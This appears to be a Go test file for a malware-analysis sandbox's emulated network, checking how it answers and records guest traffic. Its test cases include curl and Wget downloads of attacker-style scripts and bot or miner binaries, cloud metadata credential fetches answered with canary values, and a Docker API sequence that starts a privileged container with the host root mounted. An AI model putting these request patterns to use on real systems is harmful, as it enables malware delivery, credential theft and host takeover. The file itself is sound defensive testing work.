package network_test

import (
	"crypto/rand"
	"encoding/json"
	"io"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/sallyport-dev/sallyport/sandbox/canary"
	"github.com/sallyport-dev/sallyport/sandbox/marker"
	"github.com/sallyport-dev/sallyport/sandbox/network"
	"github.com/sallyport-dev/sallyport/sandbox/observation"
)

func TestPayloads(t *testing.T) {
	g := newGuest(t, func(c *network.Config) { c.Arch = "arm64" })
	elf := func(arch string) string {
		b, err := marker.ELF(arch, token)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	script := string(marker.Script(token))
	for name, c := range map[string]struct {
		url, agent, accept string
		status             int
		body, payload      string
	}{
		"script":                      {"http://198.51.100.1/x/install.sh", "curl/7.88", "*/*", 200, script, "script"},
		"script over TLS":             {"https://paste.example/a.sh?raw=1", "Wget/1.21", "*/*", 200, script, "script"},
		"installer without ending":    {"https://get.example/install", "curl/7.88", "*/*", 200, script, "script"},
		"program for one CPU":         {"http://198.51.100.1/bins/bot.x86_64", "Wget", "*/*", 200, elf("amd64"), "elf"},
		"program by uname":            {"http://drop.example/xmrig-aarch64", "curl/7.88", "*/*", 200, elf("arm64"), "elf"},
		"program for the guest":       {"http://198.51.100.1/kinsing", "curl/7.88", "*/*", 200, elf("arm64"), "elf"},
		"CPU that nobody has here":    {"http://198.51.100.1/bins/bot.mips", "Wget", "*/*", 200, elf("mips"), "elf"},
		"the same, little endian":     {"http://198.51.100.1/bins/mpsl", "Wget", "*/*", 200, elf("mipsle"), "elf"},
		"an older one that runs":      {"http://198.51.100.1/bins/bot.arm7", "Wget", "*/*", 200, elf("arm64"), "elf"},
		"a CPU without programs":      {"http://198.51.100.1/bins/bot.sh4", "Wget", "*/*", 200, elf("arm64"), "elf"},
		"CPU after an underscore":     {"http://198.51.100.1/agent_linux_amd64", "Wget", "*/*", 200, elf("amd64"), "elf"},
		"CPU within a word":           {"http://198.51.100.1/agentlinuxamd64.bin", "Wget", "*/*", 200, elf("amd64"), "elf"},
		"CPU in the query":            {"http://198.51.100.1/agent.bin?arch=x86_64", "Wget", "*/*", 200, elf("amd64"), "elf"},
		"program, to a browser":       {"http://198.51.100.1/kinsing", "Mozilla/5.0", "text/html", 200, "<html>", ""},
		"interface, to curl":          {"http://svc.example/api/v1/items", "curl/7.88", "application/json", 200, `{"status":"ok"}`, ""},
		"health, to curl":             {"http://svc.example/healthz", "curl/7.88", "*/*", 200, "<html>", ""},
		"archive":                     {"http://198.51.100.1/miner.tar.gz", "curl/7.88", "*/*", 404, "", ""},
		"Debian's mirror":             {"http://deb.debian.org/debian/dists/bookworm/InRelease", "Debian APT", "*/*", 404, "", ""},
		"Alpine's mirror":             {"https://dl-cdn.alpinelinux.org/alpine/v3.20/main/x86_64/APKINDEX.tar.gz", "apk", "*/*", 404, "", ""},
		"Debian's mirror, a script":   {"http://deb.debian.org/x.sh", "curl", "*/*", 404, "", ""},
		"GitHub's interface":          {"https://api.github.com/repos/x/y/releases", "curl/7.88", "*/*", 404, `{"message"`, ""},
		"what is my address":          {"http://ifconfig.me/", "curl/7.88", "*/*", 200, "203.0.113.", ""},
		"a name that ends like a CDN": {"http://notdebian.org/run.sh", "curl/7.88", "*/*", 200, script, "script"},
	} {
		t.Run(name, func(t *testing.T) {
			req, err := http.NewRequest("GET", c.url, nil)
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("User-Agent", c.agent)
			req.Header.Set("Accept", c.accept)
			r, err := g.browser(dns.TypeA).Do(req)
			if err != nil {
				t.Fatal(err)
			}
			defer r.Body.Close()
			body, _ := io.ReadAll(r.Body)
			if r.StatusCode != c.status || !strings.Contains(string(body), c.body) || c.payload != "" && string(body) != c.body {
				t.Errorf("answered %d %.80q, want %d %.80q", r.StatusCode, body, c.status, c.body)
			}
			all := g.world.Records(g.start).HTTP
			i := slices.IndexFunc(all, func(h observation.HTTP) bool {
				return h.Path == req.URL.RequestURI() && h.Host == req.URL.Hostname() && h.Headers["User-Agent"] == c.agent
			})
			if i < 0 {
				t.Fatal("the request is not recorded")
			}
			if h := all[i]; h.Payload != c.payload || h.Status != c.status || h.Method != "GET" || len(h.SHA256) != 64 {
				t.Errorf("recorded as %+v", h)
			}
		})
	}
}

func TestHTTPBodiesAndManyRequestsOnOneConnection(t *testing.T) {
	g := newGuest(t)
	client := g.browser(dns.TypeA)
	big := strings.Repeat("0123456789abcdef", 64<<10) // 1 MiB
	for _, body := range []string{"small", big} {
		req, _ := http.NewRequest("POST", "http://upload.example/put", strings.NewReader(body))
		req.Header.Set("Expect", "100-continue")
		r, err := client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, r.Body)
		r.Body.Close()
	}
	r, err := client.Head("http://upload.example/file.sh")
	if err != nil || r.ContentLength <= 0 {
		t.Fatalf("HEAD: %+v, %v", r, err)
	}
	records := g.world.Records(g.start)
	if len(records.HTTP) != 3 || records.HTTP[0].Body != "small" || records.HTTP[1].Body != big[:64<<10] {
		t.Fatalf("recorded %d requests", len(records.HTTP))
	}
	flows := slices.DeleteFunc(records.Flows, func(f observation.Flow) bool { return f.Proto == "udp" })
	if len(flows) != 1 || flows[0].BytesOut < 1<<20 || len(flows[0].Out) > 4*64<<10 {
		t.Errorf("%d flows", len(flows))
	}
}

func TestBrokenHTTPIsRefused(t *testing.T) {
	g := newGuest(t)
	for name, words := range map[string]string{
		"no header":        "GET / HTTP/1.1\r\n:\r\n\r\n",
		"endless header":   "GET / HTTP/1.1\r\nX: " + strings.Repeat("x", 100<<10),
		"length that lies": "POST / HTTP/1.1\r\nContent-Length: -5\r\n\r\n",
	} {
		conn := g.connect("198.51.100.5:80")
		if heard := g.say(conn, words, "\r\n\r\n"); !strings.HasPrefix(heard, "HTTP/1.1 400 ") {
			t.Errorf("%s: %q", name, heard)
		}
	}
}

func TestMetadataService(t *testing.T) {
	set, err := canary.New(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	g := newGuest(t, func(c *network.Config) { c.Canaries = set })
	client := g.browser(dns.TypeA)
	const base = "http://169.254.169.254"
	req, _ := http.NewRequest("PUT", base+"/latest/api/token", nil)
	r, err := client.Do(req)
	if err != nil || r.StatusCode != 200 {
		t.Fatalf("token: %v, %v", r, err)
	}
	r.Body.Close()
	_, role := g.get(client, base+"/latest/meta-data/iam/security-credentials/")
	_, document := g.get(client, base+"/latest/meta-data/iam/security-credentials/"+role)
	var credentials struct{ AccessKeyId, SecretAccessKey, Token, Expiration string }
	if err := json.Unmarshal([]byte(document), &credentials); err != nil {
		t.Fatalf("%q: %v", document, err)
	}
	if credentials.AccessKeyId != set.Value(canary.IMDSAccessKeyID) || credentials.SecretAccessKey != set.Value(canary.IMDSSecretKey) || credentials.Token != set.Value(canary.IMDSSessionToken) {
		t.Errorf("credentials %+v are not the canaries", credentials)
	}
	if status, _ := g.get(client, base+"/computeMetadata/v1/"); status != 403 {
		t.Errorf("another cloud's path without its header: %d", status)
	}
	for _, f := range g.world.Records(g.start).Flows {
		if f.Direct || len(f.Canaries) > 0 {
			t.Errorf("recorded as %+v", f)
		}
	}
}

func TestDockerAPI(t *testing.T) {
	g := newGuest(t)
	client := g.browser(dns.TypeA)
	call := func(method, path, body string) (int, string) {
		t.Helper()
		req, _ := http.NewRequest(method, "http://198.51.100.50:2375"+path, strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		r, err := client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer r.Body.Close()
		b, _ := io.ReadAll(r.Body)
		return r.StatusCode, string(b)
	}
	for _, c := range []struct {
		method, path, body string
		status             int
		want               string
	}{
		{"GET", "/_ping", "", 200, "OK"},
		{"GET", "/version", "", 200, `"ApiVersion":"1.43"`},
		{"GET", "/v1.43/info", "", 200, `"ServerVersion"`},
		{"GET", "/v1.43/containers/json?all=1", "", 200, "[]"},
		{"POST", "/v1.43/images/create?fromImage=alpine&tag=latest", "", 200, "Downloaded"},
		{"POST", "/v1.43/containers/create", `{"Image":"alpine","Cmd":["sh","-c","id"],"HostConfig":{"Privileged":true,"Binds":["/:/host"]}}`, 201, `"Id":"`},
		{"POST", "/v1.43/containers/0123/start", "", 204, ""},
		{"POST", "/v1.43/containers/0123/exec", `{"Cmd":["id"]}`, 201, `"Id":"`},
		{"POST", "/v1.43/exec/0123/start", `{}`, 200, "\x01\x00\x00\x00\x00\x00\x00\x18uid=0(root)"},
		{"GET", "/v1.43/exec/0123/json", "", 200, `"ExitCode":0`},
		{"GET", "/v1.43/containers/0123/json", "", 200, `"Running":true`},
		{"POST", "/v1.43/containers/0123/wait", "", 200, `"StatusCode":0`},
		{"DELETE", "/v1.43/containers/0123", "", 204, ""},
	} {
		if status, body := call(c.method, c.path, c.body); status != c.status || !strings.Contains(body, c.want) {
			t.Errorf("%s %s: %d %q", c.method, c.path, status, body)
		}
	}
	var created observation.Message
	for _, f := range g.world.Records(g.start).Flows {
		if f.App != "docker" {
			t.Errorf("recorded as %+v", f)
		}
		for _, m := range f.Messages {
			if m.Type == "POST containers/create" {
				created = m
			}
		}
	}
	if created.Fields["privileged"] != "true" || created.Fields["binds"] != "/:/host" || created.Fields["image"] != "alpine" || created.Fields["cmd"] != "sh -c id" {
		t.Errorf("the creation is recorded as %+v", created)
	}
	if status, body := g.get(client, "http://web.example/containers/json"); strings.Contains(body, "[]") {
		t.Errorf("an ordinary web server answered as Docker: %d %q", status, body)
	}
}

func TestEveryAddressAnswersHTTP(t *testing.T) {
	g := newGuest(t)
	for name, c := range map[string]struct {
		url  string
		kind uint16
		want observation.Flow
	}{
		"by name":               {"http://www.example.test/", dns.TypeA, observation.Flow{Domain: "www.example.test", App: "http"}},
		"by name over v6":       {"http://six.example.test/", dns.TypeAAAA, observation.Flow{Domain: "six.example.test", App: "http"}},
		"by address":            {"http://198.51.100.10:8080/", dns.TypeA, observation.Flow{Direct: true, App: "http"}},
		"by v6 address":         {"http://[2001:db8:ffff::10]:31337/", dns.TypeA, observation.Flow{Direct: true, App: "http"}},
		"TLS by name":           {"https://tls.example.test/", dns.TypeA, observation.Flow{Domain: "tls.example.test", App: "http", SNI: "tls.example.test", TLS: true}},
		"TLS on a strange port": {"https://tls.example.test:6667/", dns.TypeAAAA, observation.Flow{Domain: "tls.example.test", App: "http", SNI: "tls.example.test", TLS: true}},
		"TLS by address":        {"https://198.51.100.11/", dns.TypeA, observation.Flow{Direct: true, App: "http", TLS: true}},
	} {
		t.Run(name, func(t *testing.T) {
			status, body := g.get(g.browser(c.kind), c.url)
			if status != http.StatusOK || !strings.Contains(body, "<html>") {
				t.Errorf("answered %d %q", status, body)
			}
			r := g.world.Records(g.start)
			i := slices.IndexFunc(r.HTTP, func(h observation.HTTP) bool {
				return strings.Contains(c.url, h.Host) && h.TLS == c.want.TLS && strings.Contains(c.url, portOf(h))
			})
			if i < 0 {
				t.Fatalf("no request among %+v", r.HTTP)
			}
			h := r.HTTP[i]
			f := r.Flows[slices.IndexFunc(r.Flows, func(f observation.Flow) bool { return f.ID == h.Flow })]
			got := observation.Flow{Domain: f.Domain, Direct: f.Direct, App: f.App, SNI: f.SNI, TLS: f.TLS}
			if got.Domain != c.want.Domain || got.Direct != c.want.Direct || got.App != c.want.App || got.SNI != c.want.SNI || got.TLS != c.want.TLS {
				t.Errorf("recorded as %+v, want %+v", got, c.want)
			}
			// The client has its answer a moment before the flow's record does.
			for deadline := time.Now().Add(time.Minute); f.BytesIn < int64(len(body)) && time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
				flows := g.world.Records(g.start).Flows
				f = flows[slices.IndexFunc(flows, func(f observation.Flow) bool { return f.ID == h.Flow })]
			}
			if !strings.HasPrefix(f.Out, "GET / HTTP/1.1\\x0d\\x0a") || !strings.HasPrefix(f.In, "HTTP/1.1 200 OK") {
				t.Errorf("said %.40q, heard %.40q", f.Out, f.In)
			}
			if f.BytesOut == 0 || f.BytesIn < int64(len(body)) || f.SrcPort == 0 || f.LastMS < f.FirstMS {
				t.Errorf("counted %+v", f)
			}
		})
	}
}

func portOf(h observation.HTTP) string {
	if h.Port == 80 || h.Port == 443 {
		return "/"
	}
	return ":" + strconv.Itoa(int(h.Port))
}
